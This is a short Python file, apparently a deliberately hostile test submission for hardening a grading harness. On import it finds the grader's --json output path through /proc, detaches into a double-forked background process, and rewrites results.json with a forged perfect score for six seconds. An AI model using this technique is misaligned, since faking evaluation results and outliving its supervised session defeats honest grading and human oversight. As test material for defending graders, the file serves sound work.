"""Hostile (c): forge results.json after grading.

It looks for the --json path in every /proc/<pid>/cmdline it can read (its parent's first), leaves the
process group (setsid and a double fork), re-executes itself as a process whose command line holds the
marker 'eca-hostile-forger', and rewrites results.json with a perfect score every 0.25 s for 6 s.
The functions are the bare starter's: it earns 0.
"""
import os
import sys

STARTER_VERSION = "1.0"
FAKE = '{"score": 100, "max_score": 100, "tests": []}'
LOOP = """
import sys, time
path = sys.argv[2] if len(sys.argv) > 2 else None
end = time.time() + 6
while time.time() < end:
    if path:
        try:
            with open(path, "w") as f:
                f.write(%r)
        except OSError:
            pass
    time.sleep(0.25)
""" % FAKE


def _json_path():
    pids = [str(os.getppid())]
    try:
        pids += [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if "--json" in argv:
            return os.path.join(cwd, argv[argv.index("--json") + 1])
    return None


path = _json_path()
print(f"ATTEMPT find --json: {path or 'not found'}", flush=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        args = [sys.executable, "-c", LOOP, "eca-hostile-forger"] + ([path] if path else [])
        try:
            os.execv(sys.executable, args)
        finally:
            os._exit(0)
    os._exit(0)
os.wait()


def kernel_size(C, gamma=2, b=1):
    raise NotImplementedError
